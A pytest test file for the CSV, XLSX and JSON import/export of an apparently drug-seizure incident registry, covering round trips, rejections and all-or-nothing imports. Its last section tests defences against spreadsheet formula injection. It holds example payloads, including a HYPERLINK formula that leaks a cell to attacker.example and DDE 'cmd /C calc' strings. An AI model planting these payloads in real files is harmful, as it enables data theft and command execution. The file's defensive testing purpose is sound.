"""Import and export in the documented column format: round trips, rejections, all-or-nothing."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import func, select

from interdict.accounts.service import subject_by_username
from interdict.core.db import unit_of_work
from interdict.incidents import importexport
from tests.conftest import World, clean, minimal_incident

COMPARE_DROP = {
    "id",
    "created_at",
    "updated_at",
    "submitted_at",
    "closed_at",
    "version",
    "warnings",
    "created_by",
    "updated_by",
}


def _create(client: TestClient, world: World, **overrides: object) -> dict:
    r = client.post("/api/v1/incidents", json=minimal_incident(**overrides), headers=world.h("officer.hp"))
    assert r.status_code == 201, r.text
    return r.json()


def _comparable(incident: dict) -> dict:
    return {k: v for k, v in incident.items() if k not in COMPARE_DROP}


def _all(client: TestClient, world: World, user: str = "officer.hp") -> list[dict]:
    items = client.get(
        "/api/v1/incidents", params={"page_size": 200, "sort": "reference"}, headers=world.h(user)
    ).json()["items"]
    return [client.get(f"/api/v1/incidents/{i['id']}", headers=world.h(user)).json() for i in items]


def _seed(client: TestClient, world: World) -> None:
    _create(client, world, submit=True)
    _create(
        client,
        world,
        incident_type="seizure",
        locode=None,
        place_type="land_border",
        mode_of_transport="road",
        containers=[],
        transits=[{"country": "CN"}, {"country": "LA", "locode": "LAVTE"}],
        vehicle_plate="12C-34567",
        substances=[
            {
                "substance": "Metamfetamine",
                "quantity": "40000",
                "unit": "tablets",
                "form": "tablet",
                "lab_confirmation": "confirmed",
            },
            {"other_description": 'Unidentified pink tablets; say "WY"', "quantity": "2.5", "unit": "kg"},
        ],
        parties=[
            {
                "role": "person_involved",
                "kind": "person",
                "name": "Nguyễn Văn Hùng",
                "id_document": "001088012345",
                "address": "Số 5, P. Bến Nghé, Q.1, TP. HCM",
                "phone": "0903 123 456",
            }
        ],
        modus=["vehicle-built-compartment", "false-compartment"],
        narrative="Line one, with a comma.\nLine two; with a semicolon.\n「中文」 too.",
        tlp="AMBER+STRICT",  # TLP:RED is never exported (tests/sharing)
        distribution="unit",
    )
    _create(
        client,
        world,
        incident_type="nps_identification",
        submit=True,
        substances=[{"substance": "ADB-PINACA", "quantity": "0.35", "unit": "kg", "purity_percent": "12.5"}],
        containers=[{"number": "CSQU3054383", "seal_numbers": "A1"}, {"number": "MSCU1234566"}],
    )


def test_export_then_import_gives_the_same_incidents(client: TestClient, world: World, tmp_path: Path) -> None:
    _seed(client, world)
    before = _all(client, world)
    r = client.get("/api/v1/incidents/export", params={"format": "csv"}, headers=world.h("officer.hp"))
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    path = tmp_path / "export.csv"
    path.write_bytes(r.content)
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert len(rows) == 3 and rows[1]["substance_2_other_description"].startswith("Unidentified pink")
    # Import into an empty registry: wipe and reimport as the same unit.
    clean(client.app)  # type: ignore[arg-type]
    report = _import(client, path)
    assert report.rejected == [] and report.imported == 3
    after = _all(client, world)
    assert [_comparable(x) for x in after] == [_comparable(x) for x in before]


def test_xlsx_export_imports_back_and_json_export_is_the_api_shape(
    client: TestClient, world: World, tmp_path: Path
) -> None:
    _seed(client, world)
    before = _all(client, world)
    j = client.get("/api/v1/incidents/export", params={"format": "json"}, headers=world.h("officer.hp"))
    exported = json.loads(j.content)
    assert [_comparable(x) for x in exported] == [_comparable(x) for x in before]
    x = client.get("/api/v1/incidents/export", params={"format": "xlsx"}, headers=world.h("officer.hp"))
    path = tmp_path / "e.xlsx"
    path.write_bytes(x.content)
    ws = load_workbook(path).worksheets[0]
    header = [c.value for c in next(ws.iter_rows(max_row=1))]
    assert header[:4] == ["reference", "case_reference", "incident_type", "status"]
    assert ws.max_row == 4
    clean(client.app)  # type: ignore[arg-type]
    report = _import(client, path)
    assert report.imported == 3, [r.message() for r in report.rejected]
    assert [_comparable(x) for x in _all(client, world)] == [_comparable(x) for x in before]


def _import(
    client: TestClient, path: Path, *, skip_invalid: bool = False, user: str = "officer.hp"
) -> importexport.ImportReport:
    with unit_of_work(client.app.state.sessionmaker) as s:  # type: ignore[attr-defined]
        return importexport.import_file(s, subject_by_username(s, user), path, skip_invalid=skip_invalid)


HEADER = [
    "incident_type",
    "incident_date",
    "country",
    "locode",
    "containers",
    "substance_1_name",
    "substance_1_quantity",
    "substance_1_unit",
    "party_1_role",
    "party_1_name",
    "status",
]


def _write(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(HEADER)
        w.writerows(rows)
    return path


GOOD = ["seizure", "2026-01-02", "VN", "VNHPH", "CSQU3054383", "P2P", "10", "kg", "consignee", "Công ty A", "submitted"]


def test_any_rejected_row_means_nothing_is_written_and_every_row_is_reported(
    client: TestClient, world: World, tmp_path: Path
) -> None:
    path = _write(
        tmp_path / "in.csv",
        [
            GOOD,
            ["seizure", "2026-01-02", "VN", "VNHPH", "CSQU3054384", "P2P", "10", "kg", "", "", ""],
            ["robbery", "02/01/2026", "VN", "", "", "unobtainium", "10", "bags", "", "", ""],
            GOOD,
        ],
    )
    report = _import(client, path)
    assert report.rows == 4 and report.imported == 0 and not report.written
    assert [r.line for r in report.rejected] == [3, 4]
    line3 = {e.path: e.msg for e in report.rejected[0].errors}
    assert line3 == {"containers": "container 'CSQU3054384' has a wrong check digit (expected 3)"}
    line4 = {e.path for e in report.rejected[1].errors}
    assert line4 == {"incident_type", "incident_date", "substance_1_unit"}
    assert client.get("/api/v1/incidents", headers=world.h("officer.hp")).json()["total"] == 0
    out = tmp_path / "rejected.csv"
    importexport.write_rejections(out, report)
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    assert [r["line"] for r in rows] == ["3", "4"] and "wrong check digit" in rows[0]["errors"]


def test_unknown_substance_is_reported_with_its_column(client: TestClient, world: World, tmp_path: Path) -> None:
    path = _write(tmp_path / "in.csv", [["seizure", "2026-01-02", "VN", "", "", "unobtainium", "1", "kg", "", "", ""]])
    report = _import(client, path)
    errors = {e.path: e.msg for e in report.rejected[0].errors}
    assert "unknown substance 'unobtainium'" in errors["substance_1_name"]


def test_skip_invalid_writes_the_valid_rows(client: TestClient, world: World, tmp_path: Path) -> None:
    path = _write(
        tmp_path / "in.csv", [GOOD, ["seizure", "2026-01-02", "VN", "", "CSQU3054384", "", "", "", "", "", ""], GOOD]
    )
    report = _import(client, path, skip_invalid=True)
    assert report.imported == 2 and [r.line for r in report.rejected] == [3]
    body = client.get("/api/v1/incidents", params={"sort": "reference"}, headers=world.h("officer.hp")).json()
    assert body["total"] == 2 and all(i["status"] == "submitted" for i in body["items"])
    inc = client.get(f"/api/v1/incidents/{body['items'][0]['id']}", headers=world.h("officer.hp")).json()
    assert inc["substances"][0]["substance"]["cas"] == "103-79-7" and inc["parties"][0]["name"] == "Công ty A"


def test_importing_the_same_export_twice_rejects_duplicates(client: TestClient, world: World, tmp_path: Path) -> None:
    _create(client, world)
    path = tmp_path / "e.csv"
    path.write_bytes(client.get("/api/v1/incidents/export", headers=world.h("officer.hp")).content)
    report = _import(client, path)
    assert report.imported == 0
    assert "already used in your unit's numbering" in report.rejected[0].errors[0].msg


def test_unknown_columns_are_refused_before_any_row(client: TestClient, world: World, tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    path.write_text("incident_type,incident_date,colour\nseizure,2026-01-01,red\n", encoding="utf-8")
    import pytest

    from interdict.core.errors import InvalidInput

    with pytest.raises(InvalidInput) as exc:
        _import(client, path)
    lacks, unknown = exc.value.errors
    assert lacks.msg.startswith("the file lacks the column country:")
    assert unknown.msg == "the file has column the import format does not know: colour"


def test_a_file_of_another_format_gets_one_message_naming_the_missing_columns(
    client: TestClient, world: World, tmp_path: Path
) -> None:
    """A file with many columns of another format: one message for what is missing, one for what is unknown,
    not one per column (and nothing about its rows)."""
    import pytest

    from interdict.core.errors import InvalidInput

    path = tmp_path / "manifest.csv"
    columns = [f"col_{i}" for i in range(24)]
    path.write_text(",".join(columns) + "\n" + ",".join("x" for _ in columns) + "\n", encoding="utf-8")
    with pytest.raises(InvalidInput) as exc:
        _import(client, path)
    lacks, unknown = exc.value.errors
    assert "lacks the columns incident_type, incident_date, country" in lacks.msg
    assert unknown.msg.count("col_") == 24


def test_export_only_contains_what_the_user_can_read(client: TestClient, world: World) -> None:
    _create(client, world, submit=True, distribution="unit")
    _create(client, world, submit=True, distribution="all")
    rows = list(
        csv.DictReader(
            io.StringIO(
                client.get("/api/v1/incidents/export", headers=world.h("officer.kh")).content.decode("utf-8-sig")
            )
        )
    )
    assert len(rows) == 1


def test_a_row_with_more_cells_than_the_header_is_rejected(client: TestClient, world: World, tmp_path: Path) -> None:
    path = _write(tmp_path / "in.csv", [[*GOOD, "surplus"], GOOD])
    report = _import(client, path)
    assert [r.line for r in report.rejected] == [2]
    assert "1 more cell(s) than the header" in report.rejected[0].message()
    assert report.imported == 0


# --- formula injection (issue 16) -----------------------------------------------------------------

# What a spreadsheet program runs as a formula when a cell begins with it (OWASP CSV injection; full-width
# forms are converted by some input methods). A cell that is a plain number is a number, not a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"Click for details")'
EVIL = dict(
    case_reference=HYPERLINK,
    place_name="+cmd|' /C calc'!A0",
    bl_awb="-2+3+cmd|' /C calc'!A0",
    vessel_name="@SUM(1+1)*cmd|' /C calc'!A0",
    voyage="-12.5",  # a text that is a plain number: a number to the spreadsheet, written as it is
    vehicle_plate="\uff1d1+1",  # full-width equals sign
    parcel_tracking="'=1+1",  # a genuine leading quote before a formula character
    goods_description="'quoted on purpose",  # a genuine leading quote
    narrative="=1+1\nsecond line @here",
    containers=[
        {"number": "CSQU3054383", "seal_numbers": "=SEAL()"},
        {"number": "MSCU1234566", "seal_numbers": "-7"},
    ],
    substances=[
        {"other_description": "@unknown powder", "declared_as": "+declared as tea", "quantity": "2", "unit": "kg"}
    ],
    parties=[
        {
            "role": "shipper",
            "kind": "company",
            "name": HYPERLINK,
            "address": "-1 Evil Street",
            "tax_id": "@tax",
            "id_document": "''two quotes",
            "phone": "+84 28 3822 1234",
            "email": "=cmd@evil.example",
        },
        {"role": "person_involved", "kind": "person", "name": "-Nguyễn Văn Độc", "address": "+Phường 1"},
    ],
)


def _is_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)


def test_formula_characters_in_every_free_text_column_are_neutralised_and_import_back(
    client: TestClient, world: World, tmp_path: Path
) -> None:
    _create(client, world, submit=True, **EVIL)
    before = _all(client, world)
    h = world.h("officer.hp")

    # (a) CSV: no cell a spreadsheet would run; a neutralised cell is the text behind one quote.
    csv_bytes = client.get("/api/v1/incidents/export", params={"format": "csv"}, headers=h).content
    cells = [c for row in csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig"))) for c in row]
    assert [c for c in cells if _is_formula(c)] == []
    row = next(csv.DictReader(io.StringIO(csv_bytes.decode("utf-8-sig"))))
    assert row["case_reference"] == "'" + HYPERLINK and row["party_1_name"] == "'" + HYPERLINK
    assert row["voyage"] == "-12.5"
    assert row["parcel_tracking"] == "''=1+1" and row["goods_description"] == "''quoted on purpose"
    assert row["narrative"] == "'=1+1\nsecond line @here" and row["container_seals"] == "'=SEAL(); -7"

    # (b) XLSX: no formula cell (and no error value), every text cell neutralised.
    xlsx_bytes = client.get("/api/v1/incidents/export", params={"format": "xlsx"}, headers=h).content
    (tmp_path / "evil.xlsx").write_bytes(xlsx_bytes)
    ws = load_workbook(tmp_path / "evil.xlsx").worksheets[0]
    all_cells = [c for r in ws.iter_rows() for c in r if c.value is not None]
    assert {c.data_type for c in all_cells} == {"s"}
    assert [c.value for c in all_cells if _is_formula(str(c.value))] == []

    # (c) Both files import back to the identical record (the leading quote is removed again on import).
    for name, content in (("evil.csv", csv_bytes), ("evil.xlsx", xlsx_bytes)):
        clean(client.app)  # type: ignore[arg-type]
        path = tmp_path / name
        path.write_bytes(content)
        report = _import(client, path)
        assert report.imported == 1, [r.message() for r in report.rejected]
        assert [_comparable(x) for x in _all(client, world)] == [_comparable(x) for x in before], name


def test_the_rejection_file_of_an_import_is_neutralised_too(client: TestClient, world: World, tmp_path: Path) -> None:
    evil = ["seizure", "2026-01-02", "VN", "", "CSQU3054384", "", "", "", "consignee", HYPERLINK, "@submitted"]
    report = _import(client, _write(tmp_path / "in.csv", [evil]))
    assert [r.line for r in report.rejected] == [2]
    out = tmp_path / "rejected.csv"
    importexport.write_rejections(out, report)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert [c for c in cells if _is_formula(c)] == [] and "'" + HYPERLINK in cells


def test_the_cli_export_in_every_format_is_audited_with_its_format_and_row_count(
    client: TestClient, world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from typer.testing import CliRunner

    from interdict.audit.models import AuditEntry
    from interdict.cli import app

    _create(client, world, submit=True)
    _create(client, world, submit=True, **EVIL)
    settings = world.app.state.settings
    monkeypatch.setenv("INTERDICT_DATABASE_URL", settings.effective_database_url)
    monkeypatch.setenv("INTERDICT_DATA_DIR", str(settings.data_dir))
    monkeypatch.setenv("INTERDICT_SECRET_KEY", "test-secret-key")
    with world.session() as s:
        mark = s.scalar(select(func.max(AuditEntry.seq))) or 0
    for fmt in ("csv", "xlsx", "json"):
        out = tmp_path / f"incidents.{fmt}"
        args = ["export", "incidents", "--user", "viewer.hp", "--format", fmt, "--output", str(out)]
        r = CliRunner().invoke(app, args)
        assert r.exit_code == 0, r.output
        assert "exported 2 incidents" in r.output and out.exists()
        assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []
    with world.session() as s:
        got = list(s.scalars(select(AuditEntry).where(AuditEntry.seq > mark).order_by(AuditEntry.seq)))
        entries = [(e.action, e.actor_username, e.channel, e.after["format"], e.after["rows"]) for e in got]
    assert entries == [
        ("incident.export", "viewer.hp", "cli", "csv", 2),
        ("incident.export", "viewer.hp", "cli", "xlsx", 2),
        ("incident.export", "viewer.hp", "cli", "json", 2),
    ]
    cells = [c for row in csv.reader((tmp_path / "incidents.csv").open(encoding="utf-8-sig")) for c in row]
    assert [c for c in cells if _is_formula(c)] == []
